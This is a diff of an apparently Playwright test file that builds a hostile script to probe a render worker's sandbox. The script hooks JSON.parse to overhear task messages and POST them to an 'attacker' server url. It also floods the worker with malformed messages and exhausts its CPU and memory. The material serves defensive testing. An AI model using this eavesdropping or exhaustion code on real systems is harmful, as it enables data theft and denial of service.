@@ -15,17 +15,25 @@ test.describe.configure({ mode: 'default', timeout: 120_000 });
 /** Runs in the render worker: `order` comes from the attacker's server at `url`. */
 const hostile = (url: string) => `
 const report = (what) => fetch('${url}', { method: 'POST', body: JSON.stringify(what) });
-process.on('message', (message) => report({ overheard: message }));
+const { writeSync } = process.getBuiltinModule('node:fs');
+const post = (line) => {
+  let rest = Buffer.from(line + '\\n');
+  while (rest.length > 0) try { rest = rest.subarray(writeSync(3, rest)); } catch {}
+};
+const send = (message) => post(JSON.stringify(message));
+const replies = new Map();
+const parse = JSON.parse;
+JSON.parse = (...given) => {
+  const message = parse(...given);
+  if (message?.task) report({ overheard: message });
+  replies.get(message?.contentId)?.(message);
+  return message;
+};
 const call = (address, body) => new Promise((resolve) => {
   const id = -Math.random();
-  const onReply = (reply) => {
-    if (reply.contentId !== id) return;
-    process.off('message', onReply);
-    resolve(reply.failure ?? reply.answer.status);
-  };
-  process.on('message', onReply);
+  replies.set(id, (reply) => resolve(reply.failure ?? reply.answer.status));
   const write = body === undefined ? {} : { write: { headers: {}, body } };
-  process.send({ kind: 'content', id, address, ...write });
+  send({ kind: 'content', id, address, ...write });
 });
 const pause = () => new Promise((resolve) => setTimeout(resolve, 20));
 const held = [];
@@ -35,15 +43,16 @@ const orders = {
   signal: () => process.kill(process.pid, 'SIGTERM'),
   nonsense: () => {
     for (const posted of [null, 1, {}, { kind: 'loaded' }, { kind: 'ended', message: '' }, { kind: 'answer', id: 1, answer: {} }, { kind: 'uncaught', message: '' }])
-      process.send(posted);
+      send(posted);
+    for (const line of ['', '{', '['.repeat(1e5) + ']'.repeat(1e5), '\\u0000']) post(line);
   },
   worker: () => 'worker ' + process.pid,
   table: () => { const table = new Map(); for (let n = 0; n < 5e7; n += 1) table.set(n, n); },
   heap: () => { for (let n = 0; n < 150; n += 1) held.push(new Array(1e6).fill(1.5)); },
   buffers: async () => { for (let n = 0; n < 24; n += 1) { held.push(Buffer.alloc(50e6, 1)); await pause(); } },
   loop: () => { for (;;); },
-  large: () => { for (let n = 0; n < 30; n += 1) process.send({ kind: 'content', id: n, address: '/'.repeat(1e6) }); },
-  flood: () => { for (;;) process.send({ kind: 'uncaught', message: 'x' }); },
+  large: () => { for (let n = 0; n < 30; n += 1) send({ kind: 'content', id: n, address: '/'.repeat(1e6) }); },
+  flood: () => { for (;;) send({ kind: 'uncaught', message: 'x' }); },
 };
 const obey = async () => {
   const order = await (await fetch('${url}')).json();
